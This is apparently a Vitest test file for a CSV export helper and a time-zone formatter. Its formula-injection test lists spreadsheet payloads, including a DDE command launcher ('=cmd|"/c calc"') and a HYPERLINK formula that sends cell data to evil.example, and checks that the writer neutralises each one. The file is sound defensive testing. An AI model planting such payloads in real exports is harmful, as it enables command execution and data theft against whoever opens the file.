import { expect, it } from 'vitest'
import { writeCsv } from './csv'
import { localTime } from './local-time'

const COLUMNS = [
  { name: 'Name', cell: ({ name }: { name: string | null; by: number }) => name },
  { name: 'Late by (min)', cell: ({ by }: { by: number }) => by },
]

it('is UTF-8 with its mark, ends lines with CRLF, and quotes what needs it', () => {
  expect(writeCsv(COLUMNS, [{ name: 'Mesa, "east"\nyard', by: 3 }])).toBe(
    '\ufeffName,Late by (min)\r\n"Mesa, ""east""\nyard",3',
  )
  expect(writeCsv(COLUMNS, [{ name: null, by: 0 }])).toBe('\ufeffName,Late by (min)\r\n,0')
  expect(writeCsv(COLUMNS, [])).toBe('\ufeffName,Late by (min)\r\n')
})

it.each([
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '=cmd|"/c calc"!A0',
  '=1+1\n',
  '=1+1\r2',
  '+1\n2',
  '-1\n2',
  '@x\u2028y',
  '=A1\u2029',
  '=HYPERLINK("https://evil.example/?"&A1,\r\n"open")',
])('defuses %j, which a sheet would reckon', (name) => {
  const [, cell = ''] = writeCsv(COLUMNS, [{ name, by: 1 }]).split(/\r\n(.*)/su)
  expect(cell.replace(/^"/, '').startsWith("'")).toBe(true)
})

it('leaves numbers numbers', () => {
  expect(writeCsv(COLUMNS, [{ name: 'a', by: -5 }])).toContain('a,-5')
})

it('says a time on the clock of its zone, and nothing for none', () => {
  expect(localTime('2026-03-05T13:15:00Z', 'America/Phoenix')).toBe('2026-03-05 06:15')
  expect(localTime(Date.parse('2026-07-04T04:30:00Z'), 'America/Chicago')).toBe('2026-07-03 23:30')
  expect([localTime(null, 'UTC'), localTime('soon', 'UTC')]).toEqual(['', ''])
})
